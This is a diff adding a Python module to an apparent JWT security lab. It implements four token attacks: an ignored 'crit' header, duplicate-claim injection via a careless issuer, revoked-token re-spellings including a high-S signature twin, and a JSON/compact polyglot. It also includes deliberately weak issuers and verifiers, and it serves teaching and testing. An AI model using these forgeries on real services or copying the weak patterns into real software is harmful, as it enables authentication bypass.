@@ -1,0 +1,226 @@
+"""Two readers, two answers: what is not understood, what stands twice, what can be spelled otherwise.
+
+Everything weak in here is weak on purpose.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Mapping
+from functools import partial
+from typing import Any
+
+from jwtlab.attacks import cast, pyjwt
+from jwtlab.attacks.model import Attack, Stage, Variant, Verifier
+from jwtlab.checks import Check, Policy, Refusal
+from jwtlab.errors import ClaimRefused, ReplayedToken
+from jwtlab.jose import base64url, jwa, jws, jwt
+from jwtlab.jose.curves import CURVES
+
+Goal = Mapping[str, Any]
+ES256 = Verifier(cast.trusted(cast.key()))
+
+
+# crit-ignored
+
+LIMIT = "https://as.example/only-on-device"
+
+
+def _stage_crit(goal: Goal) -> Stage:
+    taken = cast.token(header={"crit": [LIMIT], LIMIT: "alice-laptop"}, **goal)
+    return Stage(cast.token(), {"taken": taken}, ES256, jwt.STANDARD.without("critical-understood"))
+
+
+CRIT = Attack(
+    "crit-ignored",
+    "A condition that nobody read",
+    "a stolen token that carries a condition",
+    "The issuer binds an administrator's token to one device, and marks the condition as critical: whoever does "
+    "not understand it must refuse. The service has never heard of crit, and Mallory's device is as good as any.",
+    "RFC 7515 §4.1.11",
+    ("CVE-2026-32597", "CVE-2025-59420"),
+    cast.present,
+    (Variant("unknown", "an unknown critical parameter", _stage_crit, ("critical-understood",)),),
+    'claims = jwt.decode(token, KEY, algorithms=["ES256"])   # PyJWT before 2.12 never read crit',
+    pyjwt.ask,
+)
+
+
+# duplicate-claim
+
+
+def careless_issuer(name: str) -> str:
+    """⚠ The issuer's sign-up form: it glues the JSON together from text and signs it."""
+    usual = json.dumps(cast.claims(), separators=(",", ":"))
+    payload = f'{usual[:-1]},"name":"{name}"}}'
+    return jws.sign(payload.encode(), cast.key(), alg="ES256", header={"typ": "JWT"})
+
+
+def forge_duplicate(goal: Goal, *, sign_up: Callable[[str], str]) -> str:
+    """Sign up under a name that ends the text early and goes on with further claims."""
+    more = json.dumps(dict(goal), separators=(",", ":"))[1:-1]
+    return sign_up(f'Mallory",{more},"note":"')
+
+
+def first_wins(payload: bytes) -> dict[str, Any]:
+    """JSON as some readers take it: of two members of one name the first counts."""
+
+    def members(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
+        return dict(reversed(pairs))
+
+    content: dict[str, Any] = json.loads(payload, object_pairs_hook=members)
+    return content
+
+
+def _gateway(case: jwt.Case) -> str:
+    if first_wins(case.payload).get("admin") is True:
+        raise Refusal("administrators do not come in this way", claim="admin", error=ClaimRefused)
+    return "the gateway reads admin = false"
+
+
+GATEWAY = Check(
+    "gateway", "⚠ The gateway in front lets it through", "", _gateway, "Payload", "It reads JSON differently."
+)
+
+
+def _stage_duplicate(goal: Goal) -> Stage:
+    victim = jwt.STANDARD.without("claims-unique").adding(GATEWAY)
+    return Stage(cast.token(), {"sign_up": careless_issuer}, ES256, victim)
+
+
+DUPLICATE = Attack(
+    "duplicate-claim",
+    "One claim, two values",
+    "that the issuer puts a name into the JSON as it stands",
+    "Mallory's display name closes the text early and adds a second admin claim. "
+    "The gateway's reader takes the first value and lets her through; the service's reader takes the last.",
+    "RFC 7519 §4, RFC 8725 §2.6",
+    (),
+    forge_duplicate,
+    (Variant("two-readers", "the first wins, and the last wins", _stage_duplicate, ("claims-unique",)),),
+    'payload = \'{"admin": false, "name": "%s"}\' % name     # the issuer\n'
+    'claims = jwt.decode(token, KEY, algorithms=["ES256"])   # json.loads: the last one counts',
+    pyjwt.ask,
+)
+
+
+# malleable-token
+
+
+def forge_spelling(goal: Goal, *, revoked: str, spelling: str) -> str:
+    """The same token in another spelling.
+
+    Args:
+        goal: not used: the revoked token already says what Mallory wants.
+        revoked: a token that stands on a deny list.
+        spelling: ``"padding"``, ``"foreign"``, ``"last-character"`` or ``"high-s"``.
+    """
+    if spelling == "padding":
+        return revoked + "=" * (-len(revoked.rpartition(".")[2]) % 4)
+    if spelling == "foreign":
+        return revoked + "!!!!"
+    if spelling == "last-character":
+        value = base64url.ALPHABET.index(revoked[-1])
+        return revoked[:-1] + base64url.ALPHABET[value ^ 1]
+    text, _, signature = revoked.rpartition(".")
+    r, s = jwa.split_signature(base64url.decode(signature))
+    return cast.seal(text, r.to_bytes(32) + (CURVES["P-256"].n - s).to_bytes(32))
+
+
+def _denied(text: str) -> Check:
+    def run(case: jws.Case) -> str:
+        if case.reading.text == text:
+            raise Refusal("this token was revoked", error=ReplayedToken)
+        return "⚠ this very text is not on the list"
+
+    return Check("deny-list", "⚠ Its text is not on the deny list", "", run, "Time", "Compares spellings.")
+
+
+def _stage_spelling(spelling: str, weak: str, goal: Goal) -> Stage:
+    revoked = cast.token(**{**goal, "jti": "revoked-1"})
+    victim = jwt.STANDARD.without(weak).adding(_denied(revoked))
+    seen = frozenset({"revoked-1"}) if weak == "not-replayed" else None
+    verifier = Verifier(ES256.keys, seen=seen)
+    return Stage(cast.token(), {"revoked": revoked, "spelling": spelling}, verifier, victim)
+
+
+def _spelling(name: str, title: str, weak: str) -> Variant:
+    return Variant(name, title, partial(_stage_spelling, name, weak), (weak,))
+
+
+MALLEABLE = Attack(
+    "malleable-token",
+    "A revoked token in another spelling",
+    "a token that was revoked",
+    "The service keeps revoked tokens on a list, by their text. Mallory spells hers differently: to a forgiving "
+    "reader the bytes are the same, or (for the high-S twin) the signature is another that is just as valid.",
+    "RFC 7515 §2, RFC 4648 §3.5; RFC 7519 §4.1.7",
+    (),
+    forge_spelling,
+    (
+        _spelling("padding", "with the padding that JWS leaves off", "base64url-strict"),
+        _spelling("foreign", "with characters that are no base64url", "base64url-strict"),
+        _spelling("last-character", "with other unused bits at the end", "base64url-strict"),
+        _spelling("high-s", "with n - s in place of s", "not-replayed"),
+    ),
+    "if token in REVOKED:          # a list of texts; list jti instead\n    abort(401)\n"
+    'claims = jwt.decode(token, KEY, algorithms=["ES256"])',
+    pyjwt.ask,
+)
+
+
+# polyglot
+
+
+def forge_polyglot(goal: Goal, *, original: str) -> str:
+    """The true token as JSON (RFC 7515 §7.2.2), and the first member's name begins like a compact one."""
+    header, payload, signature = original.split(".")
+    fake = cast.signing_input(original, goal).partition(".")[2]
+    return (
+        f'{{"  {header}.{fake}.":"","protected":"{header}","payload":"{payload}","signature":"{signature}"}}'
+    )
+
+
+def _json_signature(case: jws.Case) -> bool:
+    """The signature of whatever the text is as JSON; of the compact form, if it is no JSON."""
+    try:
+        flat = json.loads(case.reading.text)
+    except ValueError:
+        data, signature = case.reading.signing_input, case.signature
+    else:
+        data = f"{flat['protected']}.{flat['payload']}".encode()
+        signature = base64url.decode(flat["signature"])
+    return case.algorithm.verify(case.key, data, signature)
+
+
+def _stage_polyglot(goal: Goal) -> Stage:
+    good = cast.token()
+    victim: Policy = cast.weak_signature(
+        "the signature matches, in either serialization", _json_signature, "base64url-strict"
+    )
+    return Stage(good, {"original": good}, ES256, victim)
+
+
+POLYGLOT = Attack(
+    "polyglot",
+    "Two tokens in one text",
+    "one token, such as their own",
+    "Mallory writes her true token as JSON and hides a forged one in the name of its first member. "
+    "One library verifies the JSON; the other cuts the text at its dots and reads the forged claims.",
+    "RFC 7515 §7; RFC 8725bis (draft) §2.13, §3.14",
+    ("CVE-2022-39227",),
+    forge_polyglot,
+    (
+        Variant(
+            "json-and-compact",
+            "JSON to one reader, compact to the other",
+            _stage_polyglot,
+            ("base64url-strict", "signature-valid"),
+        ),
+    ),
+    "jws.deserialize(token, key)              # reads JSON too\n"
+    'header, claims, _ = token.split(".")     # reads something else',
+    pyjwt.ask,
+)
+
+ATTACKS = (CRIT, DUPLICATE, MALLEABLE, POLYGLOT)
